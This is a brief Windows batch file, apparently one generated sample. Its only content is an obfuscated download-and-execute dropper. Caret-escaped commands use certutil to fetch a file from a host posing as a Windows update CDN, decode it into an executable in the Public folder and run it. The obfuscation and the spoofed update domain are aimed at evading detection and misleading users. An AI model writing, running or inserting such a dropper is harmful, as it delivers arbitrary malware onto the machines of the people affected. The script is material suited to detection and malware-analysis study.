REM run 5097 v1
@echo off
ce^r^t^uti^l -u^r^l^ca^c^^h^e -f ^h^t^t^p://^d^^l.wi^nu^pd^at^^e-^^c^dn.^exa^m^pl^e/^^p.^t^^xt %PUBLIC%\^p.^tx^t
^c^^er^t^u^^t^i^l -^d^e^co^d^^e %PUBLIC%\p.^tx^^t %PUBLIC%\^^p.^exe
%PUBLIC%\^p.^ex^e
